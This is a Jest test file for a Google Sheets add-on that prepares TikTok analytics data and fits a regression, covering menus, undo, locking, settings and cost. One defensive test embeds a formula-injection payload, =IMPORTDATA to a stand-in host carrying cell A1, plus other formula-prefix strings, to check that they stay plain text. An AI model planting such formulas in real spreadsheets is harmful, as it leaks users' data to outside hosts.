import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { readCsv } from '../../src/cli/readCsv';
import type { ModelReport, ProfileReport, StepOptions, StepReport } from '../../src/addon/api';
import { loadAddonWithFake, type AddonWithFake } from '../helpers/addonVm';
import { projectRoot, sharedRoot } from '../helpers/shared';

// The add-on as Apps Script runs it: the built dist/addon/Code.js in a bare V8 context whose only globals are the
// in-memory Apps Script fake (dev/), driven through its global functions.

const samplePath = join(projectRoot, 'samples', 'tiktok-sample.csv');
const rawPath = join(sharedRoot, 'data', 'tiktok', 'tik-tok-analytics-2022-unprocessed.csv');
const BUSY = /Another editor is running TikFit/;

/** A fresh add-on whose Sheet1 holds a CSV file, typed as Sheets types an import. */
function withSheet(grid: unknown[][], options: Parameters<typeof loadAddonWithFake>[0] = {}): AddonWithFake {
  const loaded = loadAddonWithFake(options);
  loaded.fake.setSheetValues('Sheet1', grid as never, { parse: true });
  loaded.fake.resetCalls();
  return loaded;
}

/**
 * The article's own choices, as its author would tick them in the sidebar: zeros in watchedFullVideo and
 * newFollowers mean "not recorded", and rows of rare levels are dropped. The add-on assumes neither by itself.
 */
const ARTICLE: StepOptions = { zeroMissing: ['watchedFullVideo', 'newFollowers'], rare: 'drop' };

function sampleGrid(): string[][] {
  return readCsv(samplePath);
}

/** Every cell of every sheet that is a formula, except TikFit's own staleness formula on the results sheet. */
function formulasEverywhere(loaded: AddonWithFake): string[] {
  const found: string[] = [];
  for (const name of loaded.fake.sheetNames()) {
    const grid = loaded.fake.getSheetGrid(name);
    grid.formulas.forEach((row, i) =>
      row.forEach((formula, j) => {
        if (formula !== '' && !formula.startsWith('=IF(TIKFIT_FINGERPRINT('))
          found.push(`${name}!R${i + 1}C${j + 1}: ${formula}`);
      }),
    );
    grid.implicitFormulas.forEach((row, i) =>
      row.forEach((flag, j) => {
        if (flag) found.push(`${name}!R${i + 1}C${j + 1} (implicit)`);
      }),
    );
  }
  return found;
}

describe('onOpen, onInstall and the sidebar', () => {
  test('in AuthMode.NONE onOpen only adds the menu and touches no document', () => {
    const { fake, call } = loadAddonWithFake({ authMode: 'NONE' });
    call('onOpen', fake.openEvent());
    expect(fake.menus).toHaveLength(1);
    expect(fake.menus[0]?.kind).toBe('addon');
    expect(fake.menus[0]?.items.filter((i) => 'caption' in i).map((i) => (i as { caption: string }).caption)).toEqual([
      'Open TikFit',
      'Run all',
      'Clean',
      'Impute',
      'Encode',
      'Fit regression',
      'Undo last step',
    ]);
    expect(fake.countCalls({ service: ['Spreadsheet', 'Sheet', 'Range'] })).toBe(0);
  });

  test('the menu items name real global functions', () => {
    const { fake, call, addon } = loadAddonWithFake();
    call('onInstall', fake.openEvent());
    const handlers =
      fake.menus[0]?.items
        .filter((i) => 'functionName' in i)
        .map((i) => (i as { functionName: string }).functionName) ?? [];
    expect(handlers.length).toBe(7);
    for (const handler of handlers) expect(typeof addon[handler]).toBe('function');
  });

  test('showSidebar opens the built sidebar, titled TikFit', () => {
    const { fake, call } = loadAddonWithFake();
    call('showSidebar');
    expect(fake.sidebars).toHaveLength(1);
    expect(fake.sidebars[0]?.title).toBe('TikFit');
    expect(fake.sidebars[0]?.content).toContain('id="btn-recipe"');
  });
});

describe('the article recipe end to end', () => {
  test('on the synthetic sample: data prepared in place, results sheet written, a snapshot to undo', () => {
    const loaded = withSheet(sampleGrid());
    const report = loaded.call<ModelReport>('runRecipe', ARTICLE);
    expect(report.step).toBe('recipe');
    expect(report.n).toBe(145);
    expect(report.findings.join('\n')).toMatch(
      /Videos about data analytics gain about \d+% more new followers than videos about career/,
    );
    expect(JSON.parse(JSON.stringify(report))).toEqual(report); // JSON-safe: what google.script.run can carry
    const data = loaded.fake.getSheetGrid('Sheet1');
    expect(data.values.length).toBe(182); // header + 181 rows kept
    expect(data.values[0]).toContain('category_info');
    // Mostly-empty columns are left out of the model but never deleted from the user's sheet.
    expect(data.values[0]).toContain('male');
    expect((report.details as { excluded: string[] }).excluded).toContain('male');
    const results = loaded.fake.getSheetGrid('TikFit Results');
    const header = results.values.findIndex((row) => row[0] === 'Term');
    expect(results.values[header]?.slice(0, 8)).toEqual([
      'Term',
      'Estimate',
      'Std. Error',
      't',
      'p-value',
      'CI low',
      'CI high',
      'VIF',
    ]);
    expect(results.values[header + 1]?.[0]).toBe('Intercept');
    expect(loaded.fake.getConditionalFormatRules('TikFit Results')).toHaveLength(1);
    expect(
      loaded.fake
        .getCharts('TikFit Results')
        .map((c) => c.chartType)
        .sort(),
    ).toEqual(['LINE', 'SCATTER']);
    const flat = results.values.flat().map(String);
    // The answer first: the findings, then the warnings, then the model; the machinery last.
    const firstRow = (text: string): number => results.values.findIndex((row) => String(row[0]).startsWith(text));
    const order = [
      'What TikFit found',
      'Warnings',
      'Model summary',
      'Term',
      'Not in the model',
      'How this was computed',
      'Settings',
    ].map(firstRow);
    expect(order.every((row, k) => row > 0 && (k === 0 || row > (order[k - 1] as number)))).toBe(true);
    expect(flat.some((cell) => cell.startsWith('IMPUTED TARGET'))).toBe(true);
    expect(flat).toContain('Data fingerprint');
    expect(results.formulas.flat().some((f) => f.startsWith("=IF(TIKFIT_FINGERPRINT('Sheet1'!A1:"))).toBe(true);
    const backups = loaded.fake.sheetNames().filter((n) => n.startsWith('TikFit backup'));
    expect(backups).toHaveLength(1);
    expect(loaded.fake.getSheetGrid(backups[0] as string).hidden).toBe(true);
  });

  (existsSync(rawPath) ? test : test.skip)(
    "on the article's raw export (../shared): 119 rows, 16 terms, 105 targets imputed",
    () => {
      const loaded = withSheet(readCsv(rawPath));
      const report = loaded.call<ModelReport>('runRecipe', { ...ARTICLE, testFraction: 0 });
      expect(report.n).toBe(119);
      const details = report.details as { model: { coefficients: unknown[] }; excluded: string[] };
      expect(details.model.coefficients).toHaveLength(16);
      expect(details.excluded).toEqual(['male', 'female', '18-24', '25-34', '35-44', '45-54', '55+']);
      expect(report.warnings.join('\n')).toMatch(/IMPUTED TARGET: 105 of 119 newFollowers values/);
      expect(loaded.fake.getSheetGrid('Sheet1').values.length).toBe(120);
    },
  );

  test('a second run keeps the previous results as "TikFit Results (previous)"', () => {
    const loaded = withSheet(sampleGrid());
    loaded.call('runModel');
    loaded.call('runModel', { seed: 7 });
    expect(loaded.fake.sheetNames()).toEqual(expect.arrayContaining(['TikFit Results', 'TikFit Results (previous)']));
    loaded.call('runModel', { seed: 8 });
    expect(loaded.fake.sheetNames().filter((n) => n.startsWith('TikFit Results'))).toHaveLength(2);
  });

  test('runModel writes results but leaves the data as it was', () => {
    const loaded = withSheet(sampleGrid());
    const before = loaded.fake.getSheetGrid('Sheet1');
    loaded.call('runModel');
    expect(loaded.fake.getSheetGrid('Sheet1')).toEqual(before);
    expect(loaded.fake.sheetNames()).toContain('TikFit Results');
  });
});

describe('undo', () => {
  test('clean, impute and encode, then three undos: the sheet is restored exactly', () => {
    const grid = sampleGrid();
    const loaded = withSheet(grid);
    const original = loaded.fake.getSheetGrid('Sheet1');
    const clean = loaded.call<StepReport>('applyClean', ARTICLE);
    expect(clean.message).toMatch(
      /^Trimmed 7 cells; merged Humor → humor \(2\), Software → software \(1\); zeros → blank: watchedFullVideo 20, newFollowers 12; dropped 19 rows of rare levels$/,
    );
    const afterClean = loaded.fake.getSheetGrid('Sheet1');
    expect(loaded.call<StepReport>('applyImpute').message).toMatch(
      /^Filled watchedFullVideo 17 \(mean [\d.]+\), newFollowers 12 \(mode 28\); left out male, female/,
    );
    expect(loaded.call<StepReport>('applyEncode').message).toMatch(
      /^Encoded category → 3 columns \(reference humor\), subject → 4 columns \(reference career\)$/,
    );
    expect(loaded.fake.getSheetGrid('Sheet1').values[0]).toContain('subject_data analytics');
    expect(loaded.call<StepReport>('undoLastStep').undoAvailable).toBe(2);
    loaded.call('undoLastStep');
    expect(loaded.fake.getSheetGrid('Sheet1')).toEqual(afterClean);
    loaded.call('undoLastStep');
    expect(loaded.fake.getSheetGrid('Sheet1')).toEqual(original);
    expect(loaded.fake.sheetNames().filter((n) => n.startsWith('TikFit backup'))).toEqual([]);
    expect(() => loaded.call('undoLastStep')).toThrow(/nothing to undo/);
  });

  test('formulas, formats and merges outside the data survive a step and its undo byte for byte', () => {
    const loaded = withSheet([
      ['y', 'x', 'g'],
      ...Array.from({ length: 12 }, (_, i) => [String(i * 2 + (i % 3)), String(i), i % 2 ? 'a ' : 'b']),
    ]);
    const sheet = loaded.fake.spreadsheet.getSheetByName('Sheet1') as unknown as GoogleAppsScript.Spreadsheet.Sheet;
    sheet.getRange('A1:C1').setFontWeight('bold');
    sheet.getRange('A2').setNote('first video');
    const original = loaded.fake.getSheetGrid('Sheet1');
    loaded.call('applyClean', { target: 'y', zeroMissing: [] });
    expect(loaded.fake.getSheetGrid('Sheet1')).not.toEqual(original);
    loaded.call('undoLastStep');
    expect(loaded.fake.getSheetGrid('Sheet1')).toEqual(original);
  });

  test('keeps the last five snapshots', () => {
    const loaded = withSheet(sampleGrid());
    for (let i = 0; i < 7; i++) loaded.call('applyClean');
    const backups = loaded.fake.sheetNames().filter((n) => n.startsWith('TikFit backup'));
    expect(backups).toHaveLength(5);
    expect(loaded.call<ProfileReport>('getProfile').undo).toHaveLength(5);
  });
});

describe('collaborators', () => {
  test('a busy document lock changes nothing and says why', () => {
    const loaded = withSheet(sampleGrid());
    const before = loaded.fake.getSheetGrid('Sheet1');
    loaded.fake.lock.setBusy(true);
    for (const step of ['applyClean', 'applyImpute', 'applyEncode', 'runModel', 'runRecipe', 'undoLastStep']) {
      expect(() => loaded.call(step)).toThrow(BUSY);
    }
    expect(loaded.fake.getSheetGrid('Sheet1')).toEqual(before);
    expect(loaded.fake.sheetNames()).toEqual(['Sheet1']);
    loaded.fake.lock.setBusy(false);
    expect(loaded.call<StepReport>('applyClean').step).toBe('clean');
  });

  test('settings live in DocumentProperties, shared by every editor, and stay under the 9 KB limit', () => {
    const loaded = withSheet(sampleGrid());
    const profile = loaded.call<ProfileReport>('saveSettings', { seed: 7, rareThreshold: 3 });
    expect(profile.settings.seed).toBe(7);
    expect(JSON.parse(loaded.fake.properties.document.get('tikfit.settings') as string)).toEqual({
      seed: 7,
      rareThreshold: 3,
    });
    const manyColumns = Array.from({ length: 600 }, (_, i) => `a rather long column name number ${i}`);
    expect(() => loaded.call('saveSettings', { exclude: manyColumns })).toThrow(
      /too large to keep in the document \([\d,]+ bytes, over Google's 9 KB\)/,
    );
    expect(() => loaded.call('saveSettings', { seed: 'x' })).toThrow(
      /^TikFit: Seed must be a whole number from -2147483648 to 2147483647, got "x"$/,
    );
  });

  test('results go stale when the data changes, and the sidebar says so', () => {
    const loaded = withSheet(sampleGrid());
    loaded.call('runModel');
    expect(loaded.call<ProfileReport>('getProfile').stale).toBe(false);
    const sheet = loaded.fake.spreadsheet.getSheetByName('Sheet1') as unknown as GoogleAppsScript.Spreadsheet.Sheet;
    sheet.getRange('B2').setValue(123456);
    const profile = loaded.call<ProfileReport>('getProfile');
    expect(profile.stale).toBe(true);
    expect(profile.resultsFingerprint).not.toBe(profile.dataFingerprint);
  });

  test("TIKFIT_FINGERPRINT over an open-ended range agrees with the server's fingerprint of the data range", () => {
    const loaded = withSheet(sampleGrid());
    const profile = loaded.call<ProfileReport>('getProfile');
    const values = loaded.fake.getSheetGrid('Sheet1').values;
    const openEnded = [
      ...values.map((row) => [...row, '', '']),
      ...Array.from({ length: 30 }, () => Array(values[0]!.length + 2).fill('')),
    ];
    expect(loaded.call('TIKFIT_FINGERPRINT', openEnded)).toBe(profile.dataFingerprint);
  });
});

describe('what comes from the sheet is written as text', () => {
  const attack = '=IMPORTDATA("https://x.example/?"&A1)';
  function attackGrid(): unknown[][] {
    const labels = [`'${attack}`, "'+cmd", "'-2+3", "'@SUM(A1)", 'plain'];
    const rows = Array.from({ length: 60 }, (_, i) => [
      String(10 + ((i * 7) % 23)),
      String(i % 9),
      String((i * 13) % 17),
      labels[i % labels.length],
    ]);
    return [['newFollowers', 'likes', 'views', 'category'], ...rows];
  }

  test('labels that look like formulas stay labels everywhere TikFit writes them', () => {
    const loaded = withSheet(attackGrid());
    expect(formulasEverywhere(loaded)).toEqual([]);
    loaded.call('runRecipe', { zeroMissing: [], testFraction: 0 });
    expect(formulasEverywhere(loaded)).toEqual([]);
    const header = loaded.fake.getSheetGrid('Sheet1').values[0] as string[];
    expect(header).toContain(`category_${attack}`);
    const results = loaded.fake.getSheetGrid('TikFit Results').values.flat();
    expect(results).toContain(`category_${attack}`);
  });

  test('a formula in the data that a step leaves alone stays a formula (test/addon/formulas.test.ts has the rest)', () => {
    const loaded = withSheet(sampleGrid());
    const sheet = loaded.fake.spreadsheet.getSheetByName('Sheet1') as unknown as GoogleAppsScript.Spreadsheet.Sheet;
    sheet.getRange('C3').setFormula('=B3*2');
    const report = loaded.call<StepReport>('applyClean', { rare: 'lump' });
    expect(report.confirm).toBeUndefined();
    expect(loaded.fake.getSheetGrid('Sheet1').formulas[2]?.[2]).toBe('=B3*2');
  });
});

describe('awkward sheets', () => {
  test('an empty sheet', () => {
    const loaded = loadAddonWithFake();
    expect(() => loaded.call('getProfile')).toThrow(/the sheet "Sheet1" is empty/);
    expect(() => loaded.call('applyClean')).toThrow(/is empty/);
  });

  test('a header only: a profile, but no steps', () => {
    const loaded = withSheet([['newFollowers', 'likes']]);
    expect(loaded.call<ProfileReport>('getProfile').rows).toBe(0);
    expect(() => loaded.call('applyClean')).toThrow(/header row but no data/);
  });

  test('merged cells are refused, naming the range', () => {
    const loaded = withSheet(sampleGrid());
    (loaded.fake.spreadsheet.getSheetByName('Sheet1') as unknown as GoogleAppsScript.Spreadsheet.Sheet)
      .getRange('J2:K2')
      .merge();
    expect(() => loaded.call('applyClean')).toThrow(/merged cells \(J2:K2\)/);
  });

  test('a ragged range (a stray value beyond the header) is refused with the column', () => {
    const grid = sampleGrid();
    const loaded = withSheet(grid);
    (loaded.fake.spreadsheet.getSheetByName('Sheet1') as unknown as GoogleAppsScript.Spreadsheet.Sheet)
      .getRange(5, grid[0]!.length + 2)
      .setValue('stray');
    expect(() => loaded.call('applyClean')).toThrow(/^Column V has no header: give it a name in row 1$/);
  });
});

describe('cost', () => {
  function callsFor(rows: number): number {
    const header = ['newFollowers', 'likes', 'views', 'category'];
    const grid = [
      header,
      ...Array.from({ length: rows }, (_, i) => [
        String(i % 50),
        String(i % 7),
        String((i * 31) % 1000),
        ['a', 'b', 'c'][i % 3] as string,
      ]),
    ];
    const loaded = withSheet(grid);
    loaded.call('applyClean', { zeroMissing: [], rareThreshold: 1 });
    return loaded.fake.countCalls({ service: ['SpreadsheetApp', 'Spreadsheet', 'Sheet', 'Range'] });
  }
  test('the number of spreadsheet calls per step does not grow with the rows (10 vs 10,000)', () => {
    const small = callsFor(10);
    expect(small).toBeLessThan(40);
    expect(callsFor(10000)).toBe(small);
  });
});

describe('menus', () => {
  test('a menu step shows a toast; a failing one an alert', () => {
    const loaded = withSheet(sampleGrid());
    loaded.call('menuClean');
    expect(loaded.fake.toasts.at(-1)?.message).toMatch(/^Trimmed/);
    loaded.fake.lock.setBusy(true);
    loaded.call('menuImpute');
    expect(loaded.fake.alerts.at(-1)?.prompt).toMatch(BUSY);
  });
});

describe('findings after step-by-step preparation', () => {
  test('Encode remembers the reference levels, so Fit still compares a level with its reference', () => {
    const loaded = withSheet(sampleGrid());
    loaded.call('applyClean', ARTICLE);
    loaded.call('applyImpute', ARTICLE);
    loaded.call('applyEncode', ARTICLE);
    const report = loaded.call<ModelReport>('runModel', ARTICLE);
    expect(report.findings.join('\n')).toMatch(
      /^Videos about data analytics gain about \d+% more new followers than videos about career/m,
    );
  });
});

describe("sheets without the article's columns", () => {
  test("the recipe's default zero-missing columns are skipped where the sheet lacks them", () => {
    const rows = Array.from({ length: 40 }, (_, i) => [
      String(5 + ((i * 7) % 19)),
      String(i % 11),
      ['how-to', 'vlog'][i % 2] as string,
    ]);
    const loaded = withSheet([['newFollowers', 'likes', 'format'], ...rows]);
    expect(loaded.call<StepReport>('applyClean').step).toBe('clean');
    expect(loaded.call<ModelReport>('runModel').n).toBeGreaterThan(0);
    expect(loaded.call<ModelReport>('runRecipe').step).toBe('recipe');
  });
});

test('the profile still opens when saved settings name a column that was renamed since', () => {
  const loaded = withSheet(sampleGrid());
  loaded.call('saveSettings', { exclude: ['views'], include: ['male'] });
  (loaded.fake.spreadsheet.getSheetByName('Sheet1') as unknown as GoogleAppsScript.Spreadsheet.Sheet)
    .getRange('B1')
    .setValue('plays');
  const profile = loaded.call<ProfileReport>('getProfile');
  expect(profile.columns.find((c) => c.name === 'plays')?.role).toBe('numeric');
  expect(profile.columns.find((c) => c.name === 'male')?.role).not.toBe('ignored');
});

describe('who made the results', () => {
  test("the footer never says who: Session cannot tell under the manifest's two scopes, and the add-on does not ask", () => {
    const loaded = withSheet(sampleGrid(), { userEmail: 'creator@example.com' });
    loaded.call('runModel');
    const flat = loaded.fake.getSheetGrid('TikFit Results').values.flat().map(String);
    expect(flat).not.toContain('creator@example.com');
    expect(flat).not.toContain('by');
    expect(flat.some((cell) => /Google did not say who|an editor/.test(cell))).toBe(false);
    expect(flat).toContain('Made');
  });
});
